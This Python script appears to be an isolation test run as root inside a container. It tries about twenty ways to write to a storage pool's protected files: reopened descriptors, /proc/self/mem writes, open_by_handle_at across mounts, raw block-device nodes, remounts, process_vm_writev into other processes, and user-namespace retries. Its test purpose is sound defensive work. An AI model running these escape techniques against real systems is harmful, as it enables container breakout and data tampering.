"""What root does in a container to write where it must not: run inside of it, with nothing but Python.

    python3 attacks.py JSON

JSON says what the attacker knows of the host beforehand: paths and handles of the pool's files, the device that they
are on. Prints JSON: by attack "refused: why", or what it brought about. Whether bytes changed is looked at outside.
"""

# System calls by their names, as an attacker has them:
# ruff: noqa: PTH101, PTH110, PTH112, PTH115, PTH123, PTH208
from __future__ import annotations

import ctypes
import json
import mmap
import os
import stat
import struct
import sys
from collections.abc import Callable

_libc = ctypes.CDLL(None, use_errno=True)
_AT_FDCWD = -100
_CLONE_NEWNS, _CLONE_NEWUSER = 0x20000, 0x10000000
_MS_BIND, _MS_REMOUNT, _MNT_DETACH = 4096, 32, 2
_OPEN_BY_HANDLE_AT, _OPEN_TREE, _PROCESS_VM_WRITEV = 304, 428, 311
_FICLONE, _SETFLAGS = 0x40049409, 0x40086602
_FILE = "/data/f"


def main() -> None:
    """Try everything."""
    known = json.loads(sys.argv[1])
    attacks = {name: value for name, value in globals().items() if name.startswith("attack_")}
    print(json.dumps({name.removeprefix("attack_"): _try(attack, known) for name, attack in attacks.items()}))


def _try(attack: Callable[[dict[str, str]], str], known: dict[str, str]) -> str:
    try:
        return attack(known)
    except (OSError, ValueError, AttributeError) as error:
        return f"refused: {error}"


def _check(result: int, what: str) -> int:
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number), what)
    return result


def attack_descriptors_inherited(_known: dict[str, str]) -> str:
    """Whatever whoever started the container had open. First: the others open more."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        path = f"/proc/self/fd/{name}"
        # Not that of the listing itself, nor that which newer versions of libffi have of their own library.
        if int(name) > 2 and os.path.lexists(path) and "/libffi." not in os.readlink(path):
            found.append(os.readlink(path))
            os.pwrite(os.open(path, os.O_RDWR), b"evil", 0)
    return f"inherited {found}"


def attack_descriptor_reopened(_known: dict[str, str]) -> str:
    """A file of the image, open for reading, opened again for writing."""
    descriptor = os.open(_FILE, os.O_RDONLY)
    again = os.open(f"/proc/self/fd/{descriptor}", os.O_RDWR)
    os.pwrite(again, b"evil", 0)
    return f"the first descriptor reads {os.pread(descriptor, 4, 0)!r}"


def attack_shared_mapping(_known: dict[str, str]) -> str:
    """Written through a mapping of what is open for reading."""
    with open("/data/g", "rb") as file:
        mmap.mmap(file.fileno(), 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
    return "mapped for writing"


def attack_memory_file(_known: dict[str, str]) -> str:
    """Written through /proc/self/mem, which heeds no protection, to a shared mapping that is for reading."""
    with open("/data/g", "rb") as file:
        mapped = mmap.mmap(file.fileno(), 4096, mmap.MAP_SHARED, mmap.PROT_READ)
    _libc.mmap.restype = ctypes.c_void_p
    descriptor = os.open("/data/g", os.O_RDONLY)
    at = _libc.mmap(None, ctypes.c_size_t(4096), 1, 1, descriptor, ctypes.c_long(0))
    memory = os.open("/proc/self/mem", os.O_RDWR)
    os.pwrite(memory, b"evil", at)
    return f"the file reads {mapped[:4]!r}"


def attack_truncate(_known: dict[str, str]) -> str:
    """Of a descriptor for reading."""
    os.ftruncate(os.open("/data/g", os.O_RDONLY), 0)
    return "cut"


def attack_clone_onto(_known: dict[str, str]) -> str:
    """Another file's blocks put into place."""
    source, target = os.open("/data/f", os.O_RDONLY), os.open("/data/g", os.O_RDONLY)
    _check(_libc.ioctl(target, ctypes.c_ulong(_FICLONE), source), "FICLONE")
    return "cloned"


def attack_flags(_known: dict[str, str]) -> str:
    """Made immutable, so that nobody could evict it. A copy of one's own may be."""
    flags = ctypes.c_long(0x10)
    _check(_libc.ioctl(os.open("/data/g", os.O_RDONLY), ctypes.c_ulong(_SETFLAGS), ctypes.byref(flags)), "SETFLAGS")
    return "flagged"


def attack_overlay_marks(_known: dict[str, str]) -> str:
    """The attributes by which overlayfs finds content."""
    os.setxattr("/data/g", "trusted.overlay.redirect", b"/00/00")
    return "set"


def attack_handle(known: dict[str, str]) -> str:
    """The pool's file by its handle, over every mount that there is."""
    raw = bytes.fromhex(known["handle"])
    kind, body = struct.unpack_from("<i", raw)[0], raw[4:]
    handle = struct.pack("<Ii", len(body), kind) + body
    reasons = []
    for place in ("/", "/etc/hosts", "/dev/shm", "/volume", "/proc", "/sys"):
        if not os.path.exists(place):
            continue
        mount = os.open(place, os.O_RDONLY)
        for flags in (os.O_RDWR, os.O_RDONLY):
            found = _libc.syscall(_OPEN_BY_HANDLE_AT, mount, ctypes.c_char_p(handle), flags)
            if found >= 0:
                if flags == os.O_RDWR:
                    os.pwrite(found, b"evil", 0)
                return f"opened over {place}"
            reasons.append(f"{place} {os.strerror(ctypes.get_errno())}")
    return f"refused: {', '.join(reasons)}"


def attack_paths(known: dict[str, str]) -> str:
    """The pool by its path, from here and from the roots of all processes that can be seen."""
    roots = ["", *(f"/proc/{name}/root" for name in os.listdir("/proc") if name.isdigit())]
    for root in roots:
        for path in known["paths"].split(":"):
            if os.path.exists(root + path):
                return f"there is {root + path}"
    with open("/proc/self/mountinfo", encoding="utf-8", errors="replace") as file:
        layers = [line for line in file if "lowerdir" in line]
    for option in (option for line in layers for option in line.split(" - ")[1].split(",")):
        for path in option.partition("=")[2].split(":"):
            if path.startswith("/") and os.path.exists(path):
                return f"there is {path}"
    return "refused: none of them is there"


def attack_device(known: dict[str, str]) -> str:
    """The disk that the pool is on, by a node of one's own."""
    os.mknod("/disk", stat.S_IFBLK | 0o600, int(known["device"]))
    os.pwrite(os.open("/disk", os.O_RDWR), b"evil", 1 << 40)
    return "opened"


def attack_bind_mount(_known: dict[str, str]) -> str:
    """What lies below the overlay, by mounts."""
    _check(_libc.mount(b"/data", b"/data", None, _MS_BIND, None), "mount --bind")
    return "mounted"


def attack_new_overlay(_known: dict[str, str]) -> str:
    """An overlay with the same layers, of which the lowest is to be written."""
    _check(_libc.mount(b"overlay", b"/data", b"overlay", 0, b"lowerdir=/data,upperdir=/tmp,workdir=/tmp"), "overlay")
    return "mounted"


def attack_clone_mount(_known: dict[str, str]) -> str:
    """A mount taken out of the tree."""
    _check(_libc.syscall(_OPEN_TREE, _AT_FDCWD, b"/", 1), "open_tree")
    return "cloned"


def attack_remount(_known: dict[str, str]) -> str:
    """A volume that is read-only made writable."""
    _check(_libc.mount(None, b"/volume", None, _MS_BIND | _MS_REMOUNT, None), "remount")
    return "remounted"


def attack_detach_root(_known: dict[str, str]) -> str:
    """The mounts above taken away, for what is below."""
    _check(_libc.umount2(b"/etc/hosts", _MNT_DETACH), "umount")
    return "unmounted"


def attack_volume(known: dict[str, str]) -> str:
    """The pool's file in a volume that has it."""
    if not os.path.isdir("/volume"):
        return "refused: there is none"
    os.pwrite(os.open(f"/volume/{known['object']}", os.O_RDWR), b"evil", 0)
    return "written"


def attack_volume_flags(known: dict[str, str]) -> str:
    """Its mode first."""
    if not os.path.isdir("/volume"):
        return "refused: there is none"
    os.chmod(f"/volume/{known['object']}", 0o666)
    return "changed"


def attack_other_processes(_known: dict[str, str]) -> str:
    """The node's memory: it is none of the processes that are there."""
    data = ctypes.create_string_buffer(b"evil")
    vector = struct.pack("<QQ", ctypes.addressof(data), 4)
    for number in range(1, 400):
        if number == os.getpid():
            continue
        if _libc.syscall(_PROCESS_VM_WRITEV, number, vector, 1, struct.pack("<QQ", 4096, 4), 1, 0) >= 0:
            return f"written to process {number}"
    return "refused: no process takes it"


def attack_user_namespace(known: dict[str, str]) -> str:
    """All of it again with the capabilities of a user namespace of one's own. Last: there is no way back."""
    _check(_libc.unshare(_CLONE_NEWUSER | _CLONE_NEWNS), "unshare")
    tried = {name: _try(globals()[f"attack_{name}"], known) for name in _AGAIN}
    return "refused: " + json.dumps(tried) if all(one.startswith("refused") for one in tried.values()) else str(tried)


_AGAIN = ("handle", "device", "remount", "volume", "overlay_marks", "paths")


if __name__ == "__main__":
    main()
